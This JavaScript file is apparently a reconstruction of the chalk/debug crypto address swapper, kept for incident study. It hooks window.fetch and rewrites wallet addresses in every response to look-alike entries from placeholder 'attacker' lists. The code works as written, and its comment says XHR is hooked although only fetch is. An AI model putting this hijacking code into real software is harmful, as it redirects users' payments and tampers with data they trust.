/* eslint-disable */
// Inert imitation of the chalk/debug 2025-09-08 address swapper (incidents.md section 1): fetch and
// XHR responses are scanned for ETH/BTC/TRX/LTC/BCH/SOL addresses, each replaced by the list entry
// nearest by Levenshtein distance. The "attacker" lists hold obviously fake placeholder values.
(function () {
  if (typeof window === 'undefined') return;
  const lists = {
    eth: ['0x1111111111222222222233333333334444444444', '0x5555555555666666666677777777778888888888', '0x9999999999aaaaaaaaaabbbbbbbbbbcccccccccc'],
    btc: ['1BoatSLRHtKNngkdXEeobR76b53LETtpyT', 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'],
    trx: ['TJRyWwFs9wTFGZg3JbrVriFbNfCug5tDeC'],
  };
  const patterns = {
    eth: /\b0x[a-fA-F0-9]{40}\b/g,
    btc: /\b(?:[13][a-km-zA-HJ-NP-Z1-9]{25,34}|bc1[a-z0-9]{39,59})\b/g,
    trx: /(?<!\w)[T][1-9A-HJ-NP-Za-km-z]{33}/g,
    ltc: /\b(?:[LM][a-km-zA-HJ-NP-Z1-9]{26,33}|ltc1[a-z0-9]{39,59})\b/g,
    bch: /bitcoincash:[qp][a-zA-Z0-9]{41}/g,
    sol: /\b[1-9A-HJ-NP-Za-km-z]{32,44}\b/g,
  };

  function levenshtein(a, b) {
    const d = [];
    for (let i = 0; i <= a.length; i++) d[i] = [i];
    for (let j = 0; j <= b.length; j++) d[0][j] = j;
    for (let i = 1; i <= a.length; i++) {
      for (let j = 1; j <= b.length; j++) {
        const cost = a[i - 1] === b[j - 1] ? 0 : 1;
        d[i][j] = Math.min(d[i - 1][j] + 1, d[i][j - 1] + 1, d[i - 1][j - 1] + cost);
      }
    }
    return d[a.length][b.length];
  }

  function nearest(address, candidates) {
    return candidates.reduce((best, c) => (levenshtein(address, c) < levenshtein(address, best) ? c : best), candidates[0]);
  }

  function rewrite(text) {
    for (const chain of Object.keys(patterns)) {
      const list = lists[chain] || lists.eth;
      text = text.replace(patterns[chain], (match) => nearest(match, list));
    }
    return text;
  }

  const originalFetch = window.fetch;
  window.fetch = async function (...args) {
    const res = await originalFetch.apply(this, args);
    const body = rewrite(await res.clone().text());
    return new Response(body, { status: res.status, headers: res.headers });
  };
})();
